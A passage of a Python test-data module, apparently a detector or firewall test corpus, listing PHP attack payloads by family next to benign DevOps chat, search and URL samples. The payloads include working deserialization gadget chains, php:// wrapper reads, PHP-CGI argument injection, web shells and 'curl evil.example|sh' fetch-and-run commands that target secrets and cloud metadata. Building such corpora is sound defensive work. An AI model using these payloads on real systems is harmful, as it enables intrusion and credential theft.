    # GLPI's bundled htmLawed test page calls the hook named in the request (CVE-2022-35914) (PHP interpreter)
    ("sid=foo&hhook=exec&text=curl -s evil.example/g|sh", *KV),
]

# php-wrappers: stream wrappers in a parameter that reaches include / file_get_contents / a file operation
PHP_WRAPPERS: list[Entry] = [
    # read the tools' config files base64-encoded (Zabbix, phpMyAdmin, MediaWiki, DokuWiki, Cacti) (PHP)
    "php://filter/convert.base64-encode/resource=/etc/zabbix/web/zabbix.conf.php",
    "php://filter/read=convert.base64-encode/resource=config.inc.php",
    "php://filter/convert.base64-encode/resource=LocalSettings.php",
    "php://filter/string.rot13/resource=conf/users.auth.php",
    "php://filter/convert.base64-encode/resource=/var/www/html/cacti/include/config.php",
    "php://filter/zlib.deflate/convert.base64-encode/resource=/etc/passwd",
    "php://filter/convert.iconv.utf-8.utf-16/resource=index.php",
    "php://input",
    "PHP://FilTer/resource=/etc/passwd",
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7ID8+",
    "data:text/plain,<?php phpinfo(); ?>",
    "data://text/plain,<?php system('id');?>",
    # phar:// on an uploaded avatar or build-log archive: its metadata is unserialized (PHP interpreter)
    "phar:///var/www/html/uploads/avatar.jpg/shell.php",
    "phar://./files/build-log.zip/x.php",
    "compress.zlib://phar:///var/www/html/uploads/badge.gif",
    "expect://id",
    "expect://ls -la /var/www",
    "zip:///var/www/html/uploads/artifact.zip#shell.php",
    "zip://uploads/report.zip#cmd.php",
    "glob:///var/www/html/*.php",
    "glob:///etc/zabbix/*",
    "compress.zlib:///etc/passwd",
    # filter chains: code out of nothing through iconv (PHP interpreter)
    "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7/resource=php://temp",
    "php://filter/write=convert.base64-decode/resource=cache/s.php",
    "php://filter/resource=http://evil.example/s.txt",
    # Laravel Ignition on a debug-mode staging box (CVE-2021-3129): clear the log, then phar it (PHP interpreter)
    "phar://../storage/logs/laravel.log/test.txt",
    ("{\"solution\":\"Facade\\\\Ignition\\\\Solutions\\\\MakeViewVariableOptionalSolution\",\"parameters\":"
     "{\"variableName\":\"x\",\"viewFile\":\"php://filter/write=convert.quoted-printable-decode|"
     "convert.iconv.utf-16le.utf-8|convert.base64-decode/resource=../storage/logs/laravel.log\"}}", *JB),
]

# php-object-injection: serialized objects and arrays that reach unserialize()
PHP_OBJECT_INJECTION: list[Entry] = [
    # Monolog gadget (any Composer-based tool: Satis, a Laravel deploy dashboard): SyslogUdpHandler -> system
    "O:32:\"Monolog\\Handler\\SyslogUdpHandler\":1:{s:9:\"\x00*\x00socket\";O:29:\"Monolog\\Handler\\BufferHandler\""
    ":7:{s:10:\"\x00*\x00handler\";r:2;s:13:\"\x00*\x00bufferSize\";i:-1;s:9:\"\x00*\x00buffer\";a:1:{i:0;a:2:"
    "{i:0;s:2:\"id\";s:5:\"level\";N;}}s:8:\"\x00*\x00level\";N;s:14:\"\x00*\x00initialized\";b:1;s:14:\""
    "\x00*\x00bufferLimit\";i:-1;s:13:\"\x00*\x00processors\";a:2:{i:0;s:7:\"current\";i:1;s:6:\"system\";}}}",
    # Laravel: PendingBroadcast -> Dispatcher queueResolver (PHP interpreter)
    "O:40:\"Illuminate\\Broadcasting\\PendingBroadcast\":2:{s:9:\"\x00*\x00events\";O:25:\"Illuminate\\Bus\\"
    "Dispatcher\":1:{s:16:\"\x00*\x00queueResolver\";s:6:\"system\";}s:8:\"\x00*\x00event\";O:38:\"Illuminate\\"
    "Broadcasting\\BroadcastEvent\":1:{s:10:\"connection\";s:28:\"curl -s evil.example/l.sh|sh\";}}",
    # Laravel: PendingBroadcast -> Faker\Generator formatters (PHP interpreter)
    "O:40:\"Illuminate\\Broadcasting\\PendingBroadcast\":2:{s:9:\"\x00*\x00events\";O:15:\"Faker\\Generator\":1:"
    "{s:13:\"\x00*\x00formatters\";a:1:{s:8:\"dispatch\";s:6:\"system\";}}s:8:\"\x00*\x00event\";s:8:\"uname -a\";}",
    # Guzzle FileCookieJar writes a web shell into a Satis mirror's web root (PHP interpreter)
    "O:31:\"GuzzleHttp\\Cookie\\FileCookieJar\":4:{s:41:\"\x00GuzzleHttp\\Cookie\\FileCookieJar\x00filename\";"
    "s:29:\"/var/www/html/satis/web/s.php\";s:52:\"\x00GuzzleHttp\\Cookie\\FileCookieJar\x00storeSessionCookies\";"
    "b:1;s:36:\"\x00GuzzleHttp\\Cookie\\CookieJar\x00cookies\";a:1:{i:0;O:27:\"GuzzleHttp\\Cookie\\SetCookie\":1:"
    "{s:33:\"\x00GuzzleHttp\\Cookie\\SetCookie\x00data\";a:3:{s:7:\"Expires\";i:1;s:7:\"Discard\";b:0;"
    "s:5:\"Value\";s:28:\"<?php system($_GET['c']); ?>\";}}}"
    "s:39:\"\x00GuzzleHttp\\Cookie\\CookieJar\x00strictMode\";N;}",
    # Yii2 BatchQueryResult chain (CVE-2020-15148) (PHP interpreter)
    "O:23:\"yii\\db\\BatchQueryResult\":1:{s:36:\"\x00yii\\db\\BatchQueryResult\x00_dataReader\";O:15:\"Faker\\"
    "Generator\":1:{s:13:\"\x00*\x00formatters\";a:1:{s:5:\"close\";a:2:{i:0;O:20:\"yii\\rest\\IndexAction\":2:"
    "{s:11:\"checkAccess\";s:6:\"system\";s:2:\"id\";s:2:\"id\";}i:1;s:3:\"run\";}}}}",
    # SoapClient: SSRF with CRLF into the internal Jenkins script console (PHP, then Jenkins/Groovy)
    "O:10:\"SoapClient\":3:{s:3:\"uri\";s:5:\"urn:x\";s:8:\"location\";s:32:\"http://127.0.0.1:8080/scriptText\";"
    "s:11:\"_user_agent\";s:130:\"x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 54\r\n"
    "\r\nscript=%22curl+evil.example%2Fj.sh%7Csh%22.execute%28%29\";}",
    # property-oriented privilege escalation and loose-comparison logins (a PHP ops portal) (PHP interpreter)
    "a:1:{s:4:\"user\";O:4:\"User\":3:{s:8:\"username\";s:5:\"admin\";s:4:\"role\";s:5:\"admin\";"
    "s:7:\"isAdmin\";b:1;}}",
    "a:2:{s:8:\"username\";s:5:\"admin\";s:8:\"password\";b:1;}",
    "a:1:{s:5:\"token\";i:0;}",
    "O:+4:\"User\":1:{s:7:\"isAdmin\";b:1;}",
    "O:4:\"User\":2:{s:7:\"isAdmin\";b:1;}",
    "O:4:\"User\":1:{S:7:\"\\69sAdmin\";b:1;}",
    # Monolog BufferHandler alone, reading GitLab's secrets on a shared host (PHP interpreter)
    "O:29:\"Monolog\\Handler\\BufferHandler\":7:{s:10:\"\x00*\x00handler\";r:1;s:13:\"\x00*\x00bufferSize\";i:-1;"
    "s:9:\"\x00*\x00buffer\";a:1:{i:0;a:2:{i:0;s:35:\"cat /etc/gitlab/gitlab-secrets.json\";s:5:\"level\";N;}}"
    "s:8:\"\x00*\x00level\";N;s:14:\"\x00*\x00initialized\";b:1;s:14:\"\x00*\x00bufferLimit\";i:-1;"
    "s:13:\"\x00*\x00processors\";a:2:{i:0;s:7:\"current\";i:1;s:8:\"passthru\";}}",
    # SwiftMailer temporary byte stream deletes .htaccess on destruct (PHP interpreter)
    "O:40:\"Swift_ByteStream_TemporaryFileByteStream\":2:{s:38:\"\x00Swift_ByteStream_FileByteStream\x00_path\";"
    "s:23:\"/var/www/html/.htaccess\";s:5:\"_mode\";s:3:\"w+b\";}",
    # Symfony WindowsPipes unlinks its files on destruct (PHP interpreter)
    "O:44:\"Symfony\\Component\\Process\\Pipes\\WindowsPipes\":1:{s:51:\"\x00Symfony\\Component\\Process\\Pipes\\"
    "WindowsPipes\x00files\";a:1:{i:0;s:28:\"/var/www/html/config/app.php\";}}",
    # application gadgets: a logger / cache class that writes its buffer on destruct (Nagios XI, MantisBT)
    "O:6:\"Logger\":2:{s:7:\"logFile\";s:28:\"/var/www/html/nagiosxi/s.php\";s:6:\"buffer\";"
    "s:27:\"<?php system($_GET['c']);?>\";}",
    "O:9:\"CacheItem\":2:{s:4:\"path\";s:37:\"../../../../var/www/html/mantis/s.php\";s:4:\"data\";"
    "s:15:\"<?=`$_GET[c]`?>\";}",
    # in-house release-notes page and build cache whose magic methods read / write files (PHP interpreter)
    "O:12:\"ReleaseNotes\":1:{s:8:\"template\";s:27:\"/var/www/secrets/deploy.env\";}",
    "O:10:\"BuildCache\":2:{s:4:\"file\";s:26:\"/var/www/html/ci/cache.php\";s:4:\"data\";"
    "s:27:\"<?php system($_REQUEST[0]);\";}",
    # a ChatOps notifier that posts to its webhookUrl on destruct: SSRF to cloud metadata (PHP interpreter)
    "O:13:\"SlackNotifier\":1:{s:10:\"webhookUrl\";"
    "s:65:\"http://169.254.169.254/latest/meta-data/iam/security-credentials/\";}",
    # phpMyAdmin setup script's unserialized configuration (old PMA 2.11/3.x) (PHP interpreter)
    "O:10:\"PMA_Config\":1:{s:6:\"source\";s:29:\"/etc/phpmyadmin/config-db.php\";}",
    # an in-house deploy webhook that keeps its job as a serialized object (PHP interpreter, then /bin/sh)
    "O:13:\"DeployWebhook\":2:{s:6:\"branch\";s:4:\"main\";s:7:\"command\";"
    "s:37:\"git pull && curl -s evil.example/x|sh\";}",
    # Laravel: PendingBroadcast -> Validator extensions (PHP interpreter)
    "O:40:\"Illuminate\\Broadcasting\\PendingBroadcast\":2:{s:9:\"\x00*\x00events\";O:31:\"Illuminate\\Validation\\"
    "Validator\":1:{s:10:\"extensions\";a:1:{s:0:\"\";s:6:\"system\";}}s:8:\"\x00*\x00event\";"
    "s:17:\"cat /var/www/.env\";}",
    # C: custom serialization (ArrayObject) to slip past an /O:\d+:/ filter (Zabbix-era frontends) (PHP)
    "C:11:\"ArrayObject\":130:{x:i:0;O:6:\"Logger\":2:{s:7:\"logFile\";s:26:\"/var/www/html/zabbix/z.php\";"
    "s:6:\"buffer\";s:29:\"<?php passthru($_GET['x']);?>\";};m:a:0:{}}",
    # base64(serialize()) cookies and remember-me values (PHP interpreter)
    "YToxOntzOjQ6InVzZXIiO086NDoiVXNlciI6Mzp7czo4OiJ1c2VybmFtZSI7czo1OiJhZG1pbiI7czo0OiJyb2xlIjtzOjU6ImFkbWluIj"
    "tzOjc6ImlzQWRtaW4iO2I6MTt9fQ==",
    "YToyOntzOjg6InVzZXJuYW1lIjtzOjU6ImFkbWluIjtzOjg6InBhc3N3b3JkIjtiOjE7fQ==",
    "Tzo2OiJMb2dnZXIiOjI6e3M6NzoibG9nRmlsZSI7czoxOToiL3Zhci93d3cvaHRtbC9zLnBocCI7czo2OiJidWZmZXIiO3M6MjQ6Ijw/cGhwI"
    "GV2YWwoJF9QT1NUWzFdKTs/PiI7fQ==",
]

# php-config-directives: PHP settings switched by PHP-CGI arguments, .user.ini / .htaccess, ini_set or FastCGI
PHP_CONFIG: list[Entry] = [
    # PHP-CGI argument injection (CVE-2012-1823), the query string as its exploit sends it (PHP-CGI)
    ("-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", *CGI),
    ("-s", *CGI),
    ("-d+safe_mode%3dOff+-d+disable_functions%3dNULL+-d+allow_url_include%3dOn+-d+auto_prepend_file%3d"
     "php://input+-n", *CGI),
    ("-d+auto_prepend_file%3d/proc/self/environ", *CGI),
    # Windows XAMPP build agents: the soft hyphen best-fits to '-' (CVE-2024-4577) (PHP-CGI)
    ("%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", *CGI),
    ("%ADd+cgi.force_redirect%3d0+%ADd+disable_functions%3d%22%22+%ADd+auto_prepend_file%3dphp://input", *CGI),
    # .user.ini written through an upload or a file-write bug (PHP-FPM)
    "auto_prepend_file=/var/www/html/uploads/avatar.gif",
    "auto_append_file=php://input",
    "auto_prepend_file=\"data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==\"",
    # .htaccess written into an upload directory (Apache mod_php)
    "php_value auto_prepend_file \"/var/www/html/uploads/shell.jpg\"",
    "AddType application/x-httpd-php .png",
    "<FilesMatch \"\\.jpg$\">SetHandler application/x-httpd-php</FilesMatch>",
    "php_flag engine on",
    "SetEnv PHPRC /var/www/html/uploads/php.ini",
    # ini_set() in an eval sink: open_basedir walk-up and error_log into the web root (PHP interpreter)
    "chdir('uploads');ini_set('open_basedir','..');chdir('..');chdir('..');chdir('..');ini_set('open_basedir','/');"
    "echo file_get_contents('/etc/passwd');",
    "ini_set('error_log','/var/www/html/e.php');error_log('<?php system($_GET[c]);?>');",
    "ini_set('allow_url_include','1');include('http://evil.example/s.txt');",
    "putenv('LD_PRELOAD=/tmp/evil.so');mail('a@example.org','x','y');",
    # FastCGI params sent straight to an exposed php-fpm (PHP-FPM)
    "PHP_VALUE\nauto_prepend_file=php://input\nallow_url_include=On",
    # CGI environment injection of PHPRC (embedded web servers fronting PHP) (PHP-CGI)
    "PHPRC=/dev/fd/0",
    # a php.ini editor in a hosting / ops panel (ISPConfig, Webmin) (PHP)
    "allow_url_include=On",
    "session.save_path=/var/www/html/uploads",
    "include_path=.:/tmp",
    "disable_functions=",
    "open_basedir=/",
    "extension=/tmp/evil.so",
    "mail.log=/var/www/html/mail.php",
]

# php-superglobals: superglobal overwrites (extract / register_globals style) and code that reads superglobals
PHP_SUPERGLOBALS: list[Entry] = [
    # extract($_REQUEST) in an old PHP admin page: overwrite the session and server arrays (PHP interpreter)
    ("_SESSION[login]=admin&_SESSION[role]=admin", *PN),
    # phpMyAdmin 3.4 setup: code into the generated config through a session key (CVE-2011-2505/2506) (PHP)
    ("session_to_unset=x&_SESSION[ConfigFile][Servers][*/eval(getenv('HTTP_CODE'));/*][host]=Hacked+By+PMA", *KV),
    ("GLOBALS[cfg][Servers][1][host]=evil.example", *PN),
    ("_SERVER[REMOTE_ADDR]=127.0.0.1", *PN),
    ("_SERVER[HTTP_X_FORWARDED_FOR]=127.0.0.1", *KV),
    ("_FILES[upload][tmp_name]=/etc/passwd&_FILES[upload][name]=passwd.txt", *KV),
    ("GLOBALS[_GET][cmd]=id", *PN),
    ("_COOKIE[is_admin]=1", *PN),
    ("_ENV[LD_PRELOAD]=/tmp/evil.so", *KV),
    ("_SESSION[user_id]=1&_SESSION[authenticated]=1", *KV),
    # web shells keyed on a superglobal (PHP interpreter)
    "@eval($_COOKIE['k']);",
    "system($_SERVER['HTTP_USER_AGENT']);",
    "echo `$_GET[c]`;",
    "include $_FILES['f']['tmp_name'];",
    # an eval sink dumping the environment of a CI-deployed PHP app (PHP interpreter)
    "var_dump($_ENV);",
    "print_r($_SERVER);",
    "var_export($GLOBALS);",
    "$GLOBALS['_GET']['x']($GLOBALS['_GET']['y']);",
    "assert($_SERVER['HTTP_X_CMD']);",
    "die($_ENV['DB_PASSWORD']);",
    "${${eval($_POST[x])}}",
    "extract($_GET);$a($b);",
    "parse_str($_SERVER['QUERY_STRING']);$f($c);",
    "foreach($_COOKIE as $k=>$v)$k($v);",
    "file_put_contents($_GET['f'],$_POST['d']);",
    "move_uploaded_file($_FILES['f']['tmp_name'],$_GET['to']);",
    "$_SESSION['is_admin']=true;",
]

# php-file-upload: upload names that PHP will run (MediaWiki, MantisBT and Redmine attachments, Nexus raw repos,
# Artifactory generic repos served by Apache/nginx with PHP; target: the web server and PHP interpreter)
PHP_FILE_UPLOAD: list[Entry] = [
    ("shell.php", *UP),
    ("build-report.php", *UP),
    ("coverage.phtml", *UP),
    ("release-1.4.2.phar", *UP),
    ("cmd.php5", *UP),
    ("deploy.php7", *UP),
    ("hook.pht", *UP),
    # Apache AddHandler: any ".php" anywhere in the name runs (web server)
    ("avatar.php.jpg", *UP),
    ("logo.png.php", *UP),
    ("screenshot.png.phtml", *UP),
    ("shell.PhP", *UP),
    # Windows build agents (IIS / XAMPP): trailing dot, alternate data stream, IIS 6 semicolon (web server)
    ("shell.php.", *UP),
    ("shell.php::$DATA", *UP),
    ("shell.php;.jpg", *UP),
    ("shell.php ", *UP),
    # null byte truncation in old PHP file handling (PHP interpreter)
    ("shell.php%00.png", *UP),
    ("shell.php\x00.jpg", *UP),
    # path traversal in the name puts the file in the web root (web server)
    ("../../../var/www/html/s.php", *UP),
    ("..%2f..%2fjenkins-s.php", *UP),
    # server configuration files as uploads (Apache, PHP-FPM)
    (".htaccess", *UP),
    (".user.ini", *UP),
    ("shell.p.phphp", *UP),
    ("filename*=UTF-8''shell.php", *UP),
    ("index.php", *UP),
    ("x.php4", *UP),
    ("upload.php3", *UP),
    ("cmd.pHtMl", *UP),
]

# php-high-risk-function-names: dangerous functions named in an eval sink (a Cacti / Nagios XI / GLPI admin field)
PHP_HIGH_RISK: list[Entry] = [
    "phpinfo()",
    "show_source('config.inc.php')",
    "highlight_file('/etc/zabbix/web/zabbix.conf.php')",
    "fsockopen('10.0.0.5',4444)",
    "posix_getpwuid(posix_geteuid())",
    "ini_get_all()",
    "dl('evil.so')",
    "symlink('/','/var/www/html/uploads/root')",
    "chmod('/var/www/html/cacti/s.php',0777)",
    "unlink('/var/www/html/mantis/config/config_inc.php')",
    "file_get_contents('/etc/passwd')",
    "readfile('/var/www/html/glpi/config/config_db.php')",
    "eval(gzinflate(base64_decode('K64sLknN1VDPTFHXtAYA')))",
    "eval(str_rot13('flfgrz(\"vq\");'))",
    "posix_kill(posix_getppid(),9)",
    # SSRF to the cloud metadata service from a build host (PHP interpreter)
    "curl_exec(curl_init('http://169.254.169.254/latest/meta-data/iam/security-credentials/'))",
    "parse_ini_file('/etc/php/8.1/fpm/php.ini')",
    "get_defined_vars()",
    "getenv('AWS_SECRET_ACCESS_KEY')",
    "stream_socket_client('tcp://10.0.0.5:4444')",
    "shell_exec('id')",
    "get_cfg_var('disable_functions')",
    "copy('/etc/passwd','/var/www/html/p.txt')",
    "eval(base64_decode('c3lzdGVtKCdpZCcpOw=='))",
    "assert('phpinfo()')",
    "error_log('<?php system($_GET[0]);?>',3,'/var/www/html/nagiosxi/e.php')",
    "exec('id',$o);print_r($o)",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("xss", "libinjection-xss", LIBINJECTION_XSS),
    ("xss", "script-tag", SCRIPT_TAG),
    ("xss", "event-handler", EVENT_HANDLER),
    ("xss", "attribute-vector", ATTRIBUTE_VECTOR),
    ("xss", "javascript-uri", JAVASCRIPT_URI),
    ("xss", "html-injection", HTML_INJECTION),
    ("xss", "svg-mathml", SVG_MATHML),
    ("xss", "css-expression", CSS_EXPRESSION),
    ("xss", "dom-sink-template-literal", DOM_SINK),
    ("xss", "ie-filter-style", IE_FILTER),
    ("xss", "encoded-entity", ENCODED),
    ("xss", "client-template-angular-vue", CLIENT_TEMPLATE),
    ("php", "php-open-tag", PHP_OPEN_TAG),
    ("php", "php-function-call", PHP_FUNCTION_CALL),
    ("php", "php-variable-functions", PHP_VARIABLE_FUNCTIONS),
    ("php", "php-wrappers", PHP_WRAPPERS),
    ("php", "php-object-injection", PHP_OBJECT_INJECTION),
    ("php", "php-config-directives", PHP_CONFIG),
    ("php", "php-superglobals", PHP_SUPERGLOBALS),
    ("php", "php-file-upload", PHP_FILE_UPLOAD),
    ("php", "php-high-risk-function-names", PHP_HIGH_RISK),
]

# the tools' own field names: Jenkins `description`, GitLab `title`, Jira `summary`, Grafana `text`, ...
XSS_NAMES = ["description", "title", "summary", "q", "comment", "text", "displayName", "website", "message", "body"]
# and where PHP tools take file names, templates and code: `page`, `file`, `template`, `cmd`, `value`, ...
PHP_NAMES = ["page", "file", "template", "cmd", "value", "include", "path", "config", "action", "filter"]
RAW_SUBS = ("php-config-directives", "php-superglobals", "php-variable-functions")


class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    raw_subs = RAW_SUBS
    kv_safe = "=&[]._-:/'*$!(),;{}~@%+"   # PHP-CGI switches keep their own %3d and + as the exploit sends them
    raw_places = ("query", "form", "param-name", "rs-query", "rs-param-name", "rs-raw-body")
    upload = "GIF89a"   # an image-magic body: the upload name is what is tested
    unique = True
    path_forbids = "/?#"
    raw_body_forbids = "&"
    xml_controls = "\n\t"

    def name(self, category: str, sub: str, k: int) -> str:
        names = XSS_NAMES if category == "xss" else PHP_NAMES
        return names[k % len(names)]

    def is_raw(self, sub: str, payload: str, fixed: bool) -> bool:
        """Every fixed entry of a raw sub-family goes as written (PHP-CGI switches carry no '=')."""
        return fixed and sub in self.raw_subs

    def is_latin(self, sub: str, payload: str) -> bool:
        return any("\x80" <= ch <= "\xff" for ch in payload)

    def upload_body(self, filename: str) -> str:
        if filename == ".htaccess":
            return "AddType application/x-httpd-php .gif\n"
        if filename == ".user.ini":
            return "auto_prepend_file=avatar.gif\n"
        return self.upload


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently by developers, SREs and release managers (Slack chat and bios about
# pipelines, builds, dashboards, alerts, tickets and reviews; searches for colleagues; links to builds, merge
# requests and dashboards; admin-panel notes; profiles; artifact and report uploads; ordinary headers)
CHAT = [
    # pipelines and builds
    "pipeline on main is red again, `npm run test:e2e` times out in the playwright stage",
    "stages: [build, test, deploy] and deploy has `when: manual`, so nothing ships until someone clicks",
    "Jenkinsfile has sh 'make release VERSION=${BUILD_NUMBER}' - single quotes, so Groovy won't interpolate it",
    "can someone approve !4812? it bumps the helm chart to 2.3.1",
    "Groovy: def version = readFile('VERSION').trim() and then currentBuild.displayName = \"#${BUILD_NUMBER}\"",
    "the Jenkins script console is locked down to admins now, use the job DSL seed job instead",
    "GitLab CI rule: if: '$CI_PIPELINE_SOURCE == \"merge_request_event\"' - that's why it didn't run on the tag",
    "GitHub Actions: ${{ secrets.DEPLOY_KEY }} is empty on forks, that's expected",
    "docker build -t registry.example.com/api:${CI_COMMIT_SHORT_SHA} . takes 9 minutes without the cache",
    "helm upgrade --install api ./chart -f values-prod.yaml --atomic --timeout 10m",
    "terraform plan says 3 to add, 0 to change, 1 to destroy - the destroy is the old logs bucket",
    "kubectl rollout undo deployment/api -n prod worked, incident closed",
    "Drone step uses image: golang:1.22 with commands: go test ./... and go vet ./...",
    "TeamCity agent 7 ran out of disk again, cleaned /opt/buildagent/work",
    "Bamboo is finally decommissioned, every plan lives in GitLab CI now",
    "Argo CD shows OutOfSync because CI sets the image tag, added ignoreDifferences for it",
    "Rundeck job runs ansible-playbook site.yml --limit web --check before the real run",
    "AWX template failed with 'dict object' has no attribute 'stdout', the task before it was skipped",
    "the build log ends with: Error: Process completed with exit code 137. OOM on the runner",
    "phpunit --coverage-html build/coverage, then the job archives build/coverage as an artifact",
    "composer install fails on the runner: ext-intl is missing, added it to the Dockerfile",
    "our phpunit job prints 'Deprecated: Creation of dynamic property' a hundred times since PHP 8.2",
    "git log --oneline origin/main..HEAD shows 3 commits, rebasing on main now",
    "the release branch is cut, release/2.8 is frozen except for blockers",
    "flaky test of the week: test_webhook_retry, it depends on wall clock time",
    "cache key is ${CI_COMMIT_REF_SLUG}-node-${hash of package-lock}, so branches don't share it",
    "the nightly build script exits early if the tag already exists, that's on purpose",
    "Verdaccio proxy was down so npm install went to the public registry, slower but fine",
    "Artifactory token expires Friday, rotate JFROG_TOKEN in the CI/CD variables",
    "Nexus cleanup policy deleted the snapshot we needed, restoring it from the blob store",
    "Harbor scan found a critical in the base image, rebuilding on bookworm-slim",
    "SonarQube quality gate failed on coverage: 78.2% is less than 80.0%",
    "the XSS hotspot SonarQube raised is a false positive, the value goes through escapeHtml()",
    # monitoring, dashboards and alerts
    "rate(http_requests_total{job=\"gateway\",status=~\"5..\"}[5m]) > 0.05 fired twice overnight",
    "p99 panel: histogram_quantile(0.99, sum by (le) (rate(http_request_duration_seconds_bucket[5m])))",
    "LogQL I used: {app=\"api\"} |= \"timeout\" | json | line_format \"{{.msg}}\"",
    "the alert summary uses {{ $labels.instance }}, that's why it says 10.0.3.7:9100",
    "alertmanager route sends severity=page to the on-call and everything else to #alerts-noise",
    "Kibana query: kubernetes.namespace : \"payments\" and log.level : \"error\"",
    "Zabbix trigger expression is last(/web-03/system.cpu.load[all,avg1])>5, raising it to 8",
    "Nagios check_http is flapping on the docs site, probably the CDN",
    "zabbix_agent2.conf has Server=zabbix.internal and Hostname=web-03, the host is green again",
    "Grafana text panel stays in markdown mode, we don't allow HTML in panels",
    "the new dashboard has a variable $env with prod,staging and a repeat by panel",
    "Prometheus retention is 15d, anything older is in Thanos",
    "the CSP report says an inline script was refused on the status page because script-src is 'self'",
    # tickets, reviews and code talk
    "OPS-4411: users see a blank page after login, console says Uncaught TypeError: Cannot read properties of "
    "undefined (reading 'map')",
    "Jira JQL: project = OPS AND status changed to Done during (startOfWeek(), now())",
    "Redmine #8812: attachments over 50 MB fail with 413 Request Entity Too Large",
    "Confluence page uses the {code:language=yaml} macro, the formatting looks right now",
    "the legacy wiki is MediaWiki 1.39, LocalSettings.php is in the infra repo now",
    "Gerrit +2 from Ana, submitting the change",
    "the Gitea mirror of the infra repo syncs every 10 minutes",
    "Bitbucket Server upgrade window is Sunday 06:00 UTC",
    "MR !2231 adds <script defer> to the docs layout, please review",
    "in the Vue app we use v-html only for the sanitized markdown preview",
    "the AngularJS admin is gone, the last ng-app was removed from the status page",
    "someone put <br> in a Jira summary and it showed up literally, which is correct",
    "the onerror handler in our avatar component just swaps in the placeholder image",
    "we removed document.write from the analytics snippet, it was blocking rendering",
    "javascript: links are stripped by our markdown renderer, we tested it last sprint",
    "alert(1) in last year's pentest report was on the old status page, fixed in 2.8",
    "eslint no-eval fires in the old plugin loader, we should delete that loader",
    "<?php at the top of the file and no closing tag, that's the PSR-12 style",
    "the slug helper does preg_replace('/[^a-z0-9]+/', '-', $title), nothing fancy",
    "file_get_contents() with a URL is blocked by allow_url_fopen=Off on prod, use Guzzle",
    "php.ini on the runners has memory_limit=512M, composer needs more for the monorepo",
    "the old deploy hook used shell_exec('git pull'), it's replaced by the Argo sync",
    "unserialize() on the cache payload is gone, we use json_decode now",
    "Laravel log: Illuminate\\Database\\QueryException: SQLSTATE[HY000] [2002] Connection refused",
    "PHP Fatal error: Uncaught Error: Call to undefined function mb_strlen() in /var/www/html/index.php:42",
    "the .htaccess in the docs repo only has RewriteEngine On and the fallback to index.html",
    "the webhook receiver checks X-Hub-Signature-256 before it does anything else",
    "SELECT count(*) FROM builds WHERE status = 'failed' AND created_at > now() - interval '7 days' says 214",
    "system tests take 40 minutes, we should shard them across 4 runners",
    "exec summary of the release is on the Confluence page, link in the channel topic",
    "the eval set for the ML team runs on a separate runner pool",
    "/deploy api to staging is back, the chatops bot lost its token during the rotation",
    # bios
    "Release manager. Owner of the release train, the changelog and the Friday freeze.",
    "SRE, the Prometheus and Grafana person. Ask me about alert fatigue.",
    "Build engineer: Jenkins shared libraries, Gradle caches, flaky test hunter.",
    "PHP developer, Laravel and Symfony. I keep the legacy billing app alive.",
    "Frontend, Vue and a little Angular. Accessibility nerd.",
    "Platform team. GitLab runners, Argo CD, Helm charts.",
    "AppSec. I run SonarQube, dependency scanning and the XSS training.",
    "DBA turned SRE. Postgres, pgbouncer and backups that actually restore.",
    "QA automation: Playwright, Cypress and the e2e stage that is always red",
    "ChatOps bot maintainer (/deploy, /rollback, /status). PRs welcome.",
]

SEARCHES = [
    "platform", "sre", "release", "jenkins", "gitlab runner", "grafana", "php", "laravel", "frontend", "vue",
    "angular", "kibana", "zabbix", "nagios", "on-call", "ops-alerts", "api-gateway", "billing-php", "helm-charts",
    "infra", "terraform", "argo", "sonar", "nexus", "harbor", "mediawiki", "confluence", "jira admins", "script",
    "build", "deploy", "system team", "O'Neil", "Dev-Ops", "qa", "pipeline", "chatops", "webhooks", "svg icons",
    "css",
]

URLS = [
    "https://jenkins.example.com/job/api/job/main/4711/console",
    "https://jenkins.example.com/job/release/lastSuccessfulBuild/artifact/build/reports/tests/index.html",
    "https://gitlab.example.com/platform/api/-/merge_requests/4812/diffs",
    "https://gitlab.example.com/platform/api/-/pipelines/991204",
    "https://grafana.example.com/d/api-latency/api-latency?orgId=1&var-env=prod&from=now-6h&to=now",
    "https://kibana.example.com/app/discover#/?_g=(time:(from:now-15m,to:now))&_a=(query:(language:kuery))",
    "https://prometheus.example.com/graph?g0.expr=up%7Bjob%3D%22node%22%7D&g0.tab=0",
    "https://sonarqube.example.com/dashboard?id=billing-php&branch=main",
    "https://nexus.example.com/#browse/browse:maven-releases",
    "https://argocd.example.com/applications/prod-api?view=tree",
    "https://harbor.example.com/harbor/projects/3/repositories/api/artifacts-tab",
    "https://jira.example.com/browse/OPS-4411",
    "https://confluence.example.com/display/OPS/Runbook+-+Postgres+failover",
    "https://zabbix.example.com/zabbix.php?action=dashboard.view&dashboardid=12",
    "https://nagios.example.com/nagios/cgi-bin/status.cgi?host=all&servicestatustypes=16",
    "https://redmine.example.com/issues/8812",
    "https://wiki.example.com/index.php?title=Release_process&action=history",
    "https://gerrit.example.com/c/infra/+/12345",
    "https://www.php.net/manual/en/function.preg-replace.php",
    "https://docs.gitlab.com/ee/ci/yaml/#rules",
]

PROSE = [
    "release managers",
    "build failures this week",
    "on-call sre rota",
    "php team",
    "owners of the deploy script",
    "people with jenkins admin",
    "grafana editors",
    "users in group ci-runners",
    "alert routing owners",
    "who owns the zabbix templates",
    "nagios legacy checks",
    "frontend vue guild",
    "sonarqube admins",
    "harbor robot accounts",
    "release/2.8 approvers",
    "javascript guild",
    "system team",
    "eval working group",
    "include everyone in platform",
    "css and svg icon set maintainers",
    "template owners (helm)",
    "the wiki gardeners",
    "jira project admins OPS",
    "people who can approve merge requests",
    "chatops bot owners",
    "webhook receiver maintainers",
    "artifact cleanup policy",
    "coverage report owners",
    "build agents windows",
    "dashboards without owners",
]

PROFILES = [
    ("Ana Script", "Rua do Ouro 40, Lisbon"),
    ("Jenkins Ortega", "Calle Mayor 12, Madrid"),
